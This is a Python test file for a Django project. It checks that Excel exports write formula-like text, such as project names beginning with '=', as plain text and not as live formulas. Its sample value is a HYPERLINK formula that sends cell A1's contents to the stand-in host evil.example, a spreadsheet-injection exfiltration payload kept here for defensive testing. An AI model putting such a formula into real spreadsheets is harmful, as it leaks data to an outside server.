"""Every workbook leaves through ``common.xlsx.workbook_bytes`` (issue 11 §6): a name such as
``=HYPERLINK(...)`` is written as text, never as a live formula, in every export."""

from __future__ import annotations

import datetime as dt
import re
from io import BytesIO
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from futurecommunity.common.xlsx import workbook_bytes
from futurecommunity.projects.models import Project
from futurecommunity.projects.tests.factories import ProjectFactory, advance

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
PACKAGE = Path(__file__).resolve().parents[2]


def _cells(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(BytesIO(content))
    return [(c.value, c.data_type) for s in book.worksheets for row in s.iter_rows() for c in row]


def test_no_workbook_is_saved_outside_the_one_writer() -> None:
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if "tests" in path.parts or path.name == "xlsx.py" and path.parent.name == "common":
            continue
        text = path.read_text(encoding="utf-8")
        if "openpyxl" in text and re.search(r"\b(book|wb|workbook|sheet)\.save\(", text):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []


def test_workbook_bytes_writes_formula_text_as_text() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([EVIL, "+1+1", "@SUM(A1)", "-2+3", "普通文字", 42])
    values = _cells(workbook_bytes(book))
    assert values[:5] == [
        ("'" + EVIL, "s"),
        ("'+1+1", "s"),
        ("'@SUM(A1)", "s"),
        ("'-2+3", "s"),
        ("普通文字", "s"),
    ]
    assert values[5] == (42, "n")
    assert not any(kind == "f" for _v, kind in values)


@pytest.mark.django_db
def test_project_export_and_monthly_template_write_a_formula_name_as_text(
    client, yuecheng_editor, yuecheng_approver
) -> None:
    project = ProjectFactory(actor=yuecheng_editor, creation_year=2026, level="county")
    advance(
        project,
        "under_construction",
        approver=yuecheng_approver,
        editor=yuecheng_editor,
        on=dt.date(2026, 3, 1),
    )
    Project.objects.filter(pk=project.pk).update(name=EVIL)
    client.force_login(yuecheng_editor)
    exported = client.get(reverse("projects:project-export"))
    template = client.get(reverse("reporting:report-import") + "?month=2026-06&template=1")
    for response in (exported, template):
        assert response.status_code == 200
        cells = _cells(response.content)
        assert ("'" + EVIL, "s") in cells
        assert not any(kind == "f" for _v, kind in cells)
